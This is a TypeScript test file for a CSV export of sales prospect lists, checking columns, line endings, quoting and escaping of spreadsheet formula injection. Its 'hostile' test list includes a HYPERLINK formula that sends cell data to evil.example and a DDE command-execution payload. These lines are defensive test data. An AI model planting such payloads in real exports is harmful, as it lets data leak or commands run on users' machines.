import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { contact, fullResult, listResult, target } from './fixture.ts'
import { readResult } from './read-result.ts'
import { resultCsv } from './result-csv.ts'
import type { ProspectListResult } from './result-schema.ts'

const columns = [
  'prospect_list_ref',
  'target_ref',
  'account_name',
  'website',
  'organizations',
  'licences',
  'brands',
  'contact_ref',
  'contact_name',
  'contact_role',
  'professional_profile_url',
  'verified_emails',
]

const rowsOf = (result: ProspectListResult, forSpreadsheet = false): string[][] =>
  parse(resultCsv('pl_1', result, { forSpreadsheet }))

describe('the CSV of a ready list', () => {
  test('the CSV of a ready list has exactly the twelve columns of §2.13, and one row per contact', () => {
    expect(rowsOf(fullResult)).toEqual([
      columns,
      [
        'pl_1',
        't1',
        'Lucky Otter',
        'https://luckyotter.example/en?a=1,2',
        'Lucky Otter Gaming, Ltd (licensee)\nOtter "Holding" (owner)',
        'ukgc 70001 Remote Casino\nmga MGA/B2C/101/2020',
        'Lucky Otter\nOtter Bet',
        'c1',
        'Ada Example',
        'Chief Payments Officer, Europe',
        'https://people.example/in/c1',
        'ada@luckyotter.example\na.example@otter-holding.example',
      ],
      [
        'pl_1',
        't1',
        'Lucky Otter',
        'https://luckyotter.example/en?a=1,2',
        'Lucky Otter Gaming, Ltd (licensee)\nOtter "Holding" (owner)',
        'ukgc 70001 Remote Casino\nmga MGA/B2C/101/2020',
        'Lucky Otter\nOtter Bet',
        'c2',
        'Łukasz “Luke” Example',
        '',
        '',
        'c2@luckyotter.example',
      ],
      [
        'pl_1',
        't2',
        'Grey Heron',
        '',
        '',
        '',
        '',
        'c3',
        'Person c3',
        'Head of Payments',
        'https://people.example/in/c3',
        'c3@luckyotter.example',
      ],
    ])
  })

  test('the CSV of a ready list has CRLF, no byte order mark, and quotes cells of several lines', () => {
    const text = resultCsv('pl_1', fullResult)
    expect(text.startsWith('prospect_list_ref,target_ref,')).toBe(true)
    expect(text.split('\r\n')).toHaveLength(5)
    expect(text).toContain('"ada@luckyotter.example\na.example@otter-holding.example"\r\n')
  })

  test('the CSV of a ready list without targets is its header', () => {
    expect(resultCsv('pl_1', listResult())).toBe(`${columns.join(',')}\r\n`)
  })
})

const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.example/"&A1,"x")',
  '+Bet',
  '-2+3',
  '@Play',
  '\t=1',
  "=cmd|' /C calc'!A0",
]

describe.each(hostile)('a name that begins like a formula, %j,', name => {
  const result = listResult(
    target('t1', {
      name,
      brands: [name, 'x'],
      candidate_organizations: [{ name, role: 'owner' }],
      key_contacts: [contact('c1', { name, role: name })],
    }),
  )

  test('a name that begins like a formula is exact for a parser', () => {
    expect(readResult(result).ok).toBe(true)
    const [, row = []] = rowsOf(result)
    expect([row[2], row[4], row[6], row[8], row[9]]).toEqual([
      name,
      `${name} (owner)`,
      `${name}\nx`,
      name,
      name,
    ])
  })

  test('a name that begins like a formula is escaped with spreadsheet=true', () => {
    const rows = rowsOf(result, true)
    expect(rows.flat().filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(rows[1]?.[2]).toBe(`'${name}`)
  })
})

test('a parser reads every text of a CSV back, including the lines of a cell', () => {
  const text = fc
    .string({ unit: 'grapheme', minLength: 1, maxLength: 20 })
    .map(each => each.replaceAll(/[\p{Cc}\u2028\u2029\ufeff]/gu, ''))
    .filter(each => each.trim() !== '')
  const word = fc.oneof(text, fc.constantFrom(...hostile, '"', ',', '","', "'"))
  const people = fc.record({
    name: word,
    role: fc.option(word),
    brands: fc.array(word, { minLength: 1, maxLength: 4 }),
  })
  fc.assert(
    fc.property(fc.array(people, { minLength: 1, maxLength: 5 }), drawn => {
      const result = listResult(
        ...drawn.map(({ name, role, brands }, at) =>
          target(`t${at}`, { name, brands, key_contacts: [contact(`c${at}`, { name, role })] }),
        ),
      )
      expect(readResult(result)).toMatchObject({ ok: true })
      const rows = rowsOf(result).slice(1)
      expect(rows.map(row => ({ name: row[2], role: row[9], brands: row[6]?.split('\n') }))).toEqual(
        drawn.map(each => ({ ...each, role: each.role ?? '' })),
      )
    }),
  )
})
